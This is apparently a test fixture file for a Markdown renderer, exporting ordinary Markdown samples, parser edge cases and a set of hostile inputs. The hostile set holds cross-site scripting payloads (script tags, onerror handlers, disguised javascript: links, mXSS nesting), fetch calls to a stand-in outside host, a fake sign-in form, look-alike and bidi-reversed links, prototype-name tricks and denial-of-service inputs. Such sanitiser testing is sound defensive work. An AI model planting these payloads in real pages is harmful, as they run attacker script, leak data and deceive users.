// Markdown for the tests: ordinary answers of every construct, and hostile ones.

export const MIXED = `# Title

A paragraph with *emphasis*, **strong *nested* text**, \`code\`, ~~gone~~ and a [link](https://example.org/a?b=1&c=2).
Its second line, lazily long.

Setext heading
--------------

- one
- two
  continued
  - nested *a*
  - nested b

    loose paragraph in b
- three

1. first
2. second

   \`\`\`python
   def nested(): pass
   \`\`\`
3. third

> quote
lazy line
> - list in quote
> - more

| name | n |
|------|--:|
| a \\| b | 1 |
| \`x\` | 22 |

\`\`\`js
const a = "<b>not a tag</b>";

// after a blank line
\`\`\`

~~~
tilde \`\`\` inside
~~~

    indented code

    more of it

- [x] done
- [ ] open

***

Text [with reference][ref] and ![an image](https://example.org/p.png "t").

[ref]: https://example.org/ref "title"

Line with two spaces  
break, &amp; &copy; &#8364; \\*escaped\\*.

<div class="x">
raw html
</div>

#hashtag is no heading
1986\\. no list

\`\`\`
unclosed fence
still open
`;

export const EDGE = [
  'a\n#b\n', 'a\n# b\n', 'a\n-\n', 'a\n- b\n', 'a\n---\nb', 'a\n===\nb', '- a\n\n  b\n\nc', '- a\n\n\n  b', '1. a\n\nb\n2. c',
  '> a\nb\n\nc', '| a |\n|---|\n| b |\n\nc', 'x\n| a |\n|---|\n| b |', '```\na\n```\nb', '```\na\n\n\n```\n', '```\n\n```\n', '```\n```\nx',
  '````\n```\na\n````\nb', '~~~ js\na\n~~~\n', '  ```\n  a\n    b\n  ```\nc', '```a`b\nc', '``` js\nfoo', '```\na\n ```   \nb', '```\na\n```x\nb',
  '```\r\na\r\n```\r\nb', 'a\r\rb\r\n\r\nc', '- ```\n  a\n  ```\n- b', '> ```\n> a\nb', '<!-- a\n\nb -->\n\nc', '<pre>\n\n```\n</pre>\n\nx',
  '[a]: https://b.example\n\n[a]\n', '[a]\n\n[a]: https://b.example\n', '* * *\n* a\n', '    a\n\n\n    b\n\nc', '\n\n\na', '   \n  a', 'a\n\n    \n\nb',
  '- a\n- b\n\n\n- c', '1) a\n2) b\n1. c', '# a #\nb', '#\n#a', 'a  \nb\\\nc', '- \n- a', '-\n\n  a', '> > a\n> b\nc\n\n> d',
  '```\n`\n``\n```', '~~~\n~\n~~~~\nz', '\tcode\n\nx', 'a\n\tb', '|a|b|\n|-|-|\n|c|\n\nd', '$$\nx\n$$', '```\n   \n\t\n```\n', '- a\n```\nb\n```\nc',
];

const OUTSIDE = 'https://outside.example';

export const HOSTILE = {
  script: `<script>fetch('${OUTSIDE}/s')</script>`,
  'script block': `<script>\nalert(1)\n\nalert(2)\n</script>\n\nafter`,
  'img onerror': `<img src=x onerror="fetch('${OUTSIDE}/i')">`,
  'markdown image': `![pixel](${OUTSIDE}/p.png?leak=1)`,
  'image by reference': `![x][p]\n\n[p]: ${OUTSIDE}/p.png`,
  svg: `<svg onload="alert(1)"><script>alert(2)</script><use href="${OUTSIDE}/u.svg#a"/></svg>`,
  'javascript link': '[click](javascript:alert(1))',
  'javascript link in disguise': '[click](java\tscript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1)) [d](<java\nscript:alert(1)>)',
  'javascript autolink': '<javascript:alert(1)>',
  'data link': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'vbscript, file, blob': '[a](vbscript:x) [b](file:///etc/passwd) [c](blob:https://a/b) [d](about:blank) [e](//outside.example/x) [f](/auth/logout)',
  iframe: `<iframe src="${OUTSIDE}/f"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  'object and embed': `<object data="${OUTSIDE}/o"></object><embed src="${OUTSIDE}/e">`,
  style: '<style>body{display:none}</style>\n\n<p style="position:fixed;inset:0">over</p>',
  'link and meta': `<link rel=stylesheet href="${OUTSIDE}/c.css"><meta http-equiv=refresh content="0;url=${OUTSIDE}">`,
  base: `<base href="${OUTSIDE}/">`,
  form: `<form action="${OUTSIDE}/f"><input name=password><button>Sign in</button></form>`,
  'math and mglyph': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'attribute break-out': '[a](https://a.example/"onmouseover="alert(1)) ![b"onerror="alert(1)](x)',
  'code fence language': '```"><img src=x onerror=alert(1)>\ncode\n```',
  'html in code': '```html\n<script>alert(1)</script>\n```\n`<img src=x onerror=alert(1)>`',
  'html in table': '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
  'html in heading and list': '# <svg/onload=alert(1)>\n\n- <img src=x onerror=alert(1)>\n  > <iframe src=javascript:alert(1)>',
  comment: '<!--<img src="--><img src=x onerror=alert(1)//">',
  cdata: '<![CDATA[<img src=x onerror=alert(1)>]]>\n\n<?php echo 1 ?>\n\n<!DOCTYPE html>',
  entities: '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x0; &#xD800; &#1114112; &constructor; &__proto__;',
  'link with user name': '[https://bank.example](https://bank.example@outside.example/) <https://bank.example@outside.example>',
  'look-alike host': '[аррӏе.com](https://аррӏе.com)',
  'bidi override': '[\u202egro.elpmaxe](https://outside.example) \u202etxet',
  'prototype names': '[a][__proto__] [b][constructor]\n\n[__proto__]: javascript:alert(1)\n[constructor]: javascript:alert(1)',
  'forged mask': 'Your card [CARD_MASKED] and [X_MASKED]',
  'nul and noncharacters': 'a\u0000b \ufdd0 \uffff \ud800 end',
  'list 5000 deep on one line': '- '.repeat(5000) + 'x',
  'list 5000 deep by indent': Array.from({ length: 400 }, (_, i) => `${' '.repeat(2 * i)}- a`).join('\n') + '\n' + ' '.repeat(10_000) + '- z',
  'quote 5000 deep': '>'.repeat(5000) + ' x',
  'quotes and lists mixed': '> - > 1. '.repeat(1200) + 'x',
  'table of 4000 columns and 4000 rows': `${'|a'.repeat(4000)}|\n${'|-'.repeat(4000)}|\n${'|\n'.repeat(4000)}`,
  'table of 60 columns and 20000 rows': `${'|a'.repeat(60)}|\n${'|-'.repeat(60)}|\n${'|\n'.repeat(20_000)}`,
  'unclosed fence': '```js\n' + '<script>alert(1)</script>\n'.repeat(500),
  'unclosed everything': '[ ![ ( < ` ** __ ~~ '.repeat(800),
  'many brackets': '['.repeat(20_000),
  'many stars': '*a **b '.repeat(5000),
  'many back quotes': Array.from({ length: 200 }, (_, i) => '`'.repeat(i + 1)).join(' '),
  'many autolinks': 'www.a.b/('.repeat(3000),
  'deep emphasis': '*a _b '.repeat(1500) + 'x' + '_ *'.repeat(1500),
  'one long line': 'word '.repeat(40_000),
  'one long word': 'w'.repeat(100_000),
};
